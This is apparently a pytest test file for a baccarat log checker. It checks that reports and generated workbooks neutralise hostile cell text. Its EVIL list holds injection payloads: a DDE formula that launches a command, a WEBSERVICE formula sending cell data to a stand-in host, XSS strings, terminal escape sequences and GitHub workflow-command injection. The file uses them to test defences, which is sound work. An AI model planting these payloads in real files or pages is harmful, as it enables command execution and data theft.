"""Text of a file that we write elsewhere stays text: no formula, no tag, no command to a terminal."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from baccarat_xl.cli import main
from baccarat_xl.cli.formats import FORMATS, WORKBOOK

EVIL = (
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://x/"&A1)',
    "+1+cmd|x",
    "-1+cmd|x",
    "@SUM(A1)",
    "\t=1+1",
    "<script>alert(1)</script>",
    "]]></t><f>1+1</f>",
    '"><img src=x onerror=alert(1)>',
    "\x1b]0;owned\x07\x1b[2J",
    "\x9b31m",
    "\u202ekcart",
    "_x003D_1+1",
    "::error::owned",
    "%0A::error::owned",
    "{{ 7*7 }}",
    "http://x/",
)
HEADER = ("Round", "P1", "P2", "P3", "B1", "B2", "B3", "Player total", "Banker total", "Winner")


def log(path: Path, evil: str) -> Path:
    """A log with the text as a card, as an outcome, in a header and in the sheet's name."""
    name = re.sub(r"[\[\]:*?/\\\x00-\x1f']", "", evil)[:31] or "Log"
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet(name)
        sheet.write_row(0, 0, (*HEADER, evil))
        sheet.write_row(1, 0, (1, 9, 10, "", 7, 10, "", 9, 7, "Banker", evil))
        sheet.write_row(2, 0, (2, 2, 3, 8, 1, 2, "", 3, 3, evil, evil))
        sheet.write_row(3, 0, (3, 10, 6, "", 5, 10, 4, 6, 9, "Player", evil))
        sheet.write_row(4, 0, (4, evil, 4, 5, 6, 10, "", 0, 6, "Banker", evil))
    return path


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
@pytest.mark.parametrize("form", [form for form in FORMATS if form != WORKBOOK])
def test_reports(evil: str, form: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", str(log(tmp_path / "log.xlsx", evil)), "--format", form]) == 1
    said = capsys.readouterr().out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", said)
    if form == "html":
        assert "<script>alert" not in said
        assert "<img src=x" not in said
    if form == "github":
        assert not re.search(r"(?m)^::error::owned", said)
        assert all(line.startswith("::") for line in said.splitlines() if line)
    if form in ("json", "sarif"):
        json.loads(said)


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_workbooks_of_findings(evil: str, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    source = log(tmp_path / "log.xlsx", evil)
    assert main(["check", str(source), "--format", WORKBOOK, "-o", str(out)]) == 1
    book = openpyxl.load_workbook(out)
    assert formulas_of(book) == set()
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
            text = str(cell.value)
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
            assert cell.quotePrefix or text.lstrip()[:1] not in tuple("=+-@")
            assert cell.hyperlink is None or cell.hyperlink.target.startswith("log.xlsx")


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_filled_templates(evil: str, tmp_path: Path) -> None:
    template, out = tmp_path / "template.xlsx", tmp_path / "out.xlsx"
    assert main(["template", "rounds", "--rows", "10", "-o", str(template)]) == 0
    plain = openpyxl.load_workbook(template)
    before = formulas_of(plain)
    source = tmp_path / "log.csv"
    quoted = evil.replace('"', '""')
    rows = ["Round,P1,P2,P3,B1,B2,B3,Winner,Remark", f'1,9,10,,7,10,,"{quoted}","{quoted}"']
    source.write_text(
        "\n".join([*rows, f'2,"{quoted}",3,8,A,2,,Tie,x', "3,10,6,,5,10,4,Banker,x"]) + "\n", "utf-8"
    )
    assert main(["fill", str(template), str(source), "-o", str(out)]) in (0, 1, 4)
    after = formulas_of(openpyxl.load_workbook(out))
    assert {
        text for text in after if "cmd" in text or "WEBSERVICE" in text.upper() or text == "=1+1"
    } <= before
    with zipfile.ZipFile(out) as package:
        for name in package.namelist():
            data = package.read(name)
            assert b"<script>" not in data
            assert b"<f>1+1</f>" not in data


def formulas_of(book: openpyxl.Workbook) -> set[str]:
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_annotated_copies(evil: str, tmp_path: Path) -> None:
    source, out = log(tmp_path / "log.xlsx", evil), tmp_path / "out.xlsx"
    assert main(["check", str(source), "--annotate", str(out)]) == 1
    assert formulas_of(openpyxl.load_workbook(source)) == set()
    with zipfile.ZipFile(out) as package:
        for name in package.namelist():
            data = package.read(name)
            assert b"<script>" not in data
            assert b"<img" not in data
            formulas = re.findall(rb"<f\b[^>]*>([^<]*)</f>", data)
            assert all(text.startswith(b"HYPERLINK(") for text in formulas)
